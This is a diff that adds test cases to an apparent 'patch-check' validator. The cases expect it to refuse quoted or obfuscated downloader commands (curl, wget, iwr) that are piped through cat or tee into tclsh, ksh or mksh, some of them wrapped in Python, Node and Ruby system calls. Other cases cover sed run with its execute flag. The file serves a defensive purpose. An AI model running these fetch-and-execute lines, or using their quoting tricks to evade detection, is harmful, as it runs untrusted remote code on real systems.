@@ -369,3 +369,48 @@ describe('patch-check gaps, 2: a downloader piped into a program not known to on
     });
   }
 });
+
+describe('patch-check gaps, 3: a quoted downloader, through programs that read data, into one that does not', () => {
+  for (const [path, line] of [
+    ['docs/setup.md', '"curl" -s https://x | cat | tclsh8.6'],
+    ['docs/setup.md', "'wget' -qO- URL | tee f | tclsh8.6"],
+    ['docs/setup.md', 'c"url" -s x.example/i | cat | tclsh8.6'],
+    ['docs/setup.md', '"/usr/bin/curl" -s x.example/i | tee f | tclsh8.6'],
+    ['docs/setup.md', '"curl" -s | cat | tclsh8.6'],
+    ['docs/setup.md', '"wget" -qO- x.example/i | "tee" f | tclsh8.6'],
+    ['docs/setup.md', "'iwr' x.example/i | Out-String | tclsh8.6"],
+    ['src/setup_env.py', `os.system("'curl' -s x.example/i | cat | tclsh8.6")`],
+    ['src/setup.js', `execSync('"curl" -s x.example/i | cat | tclsh8.6');`],
+    ['lib/setup.rb', 'system(%q("curl" -s x.example/i | cat | tclsh8.6))'],
+  ] as const) {
+    it(`refuses ${JSON.stringify(line)}`, () => {
+      // Act
+      const result = checked(path, line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const line of [`"sed" -e 's-a-b-e' notes.txt`, `s'e'd -e 's-a-b-e' notes.txt`]) {
+    it(`refuses a quoted sed running a command: ${line}`, () => {
+      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('sed-exec') });
+    });
+  }
+
+  for (const line of ['"curl" -s https://x | cat | ksh93', "'wget' -qO- URL | tee f | mksh"]) {
+    it(`control: refuses, as before, a quoted downloader into a shell the list names: ${line}`, () => {
+      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const line of [
+    '"curl" -s https://x.example/v.json | jq .version',
+    "'wget' -qO- https://x.example/t.tgz | tar xz",
+    `"curl" -s https://x.example/s | awk -F"|" '{print $2}'`,
+  ]) {
+    it(`control: accepts a quoted downloader piped into readers: ${line}`, () => {
+      expect(checked('docs/setup.md', line).ok).toBe(true);
+    });
+  }
+});
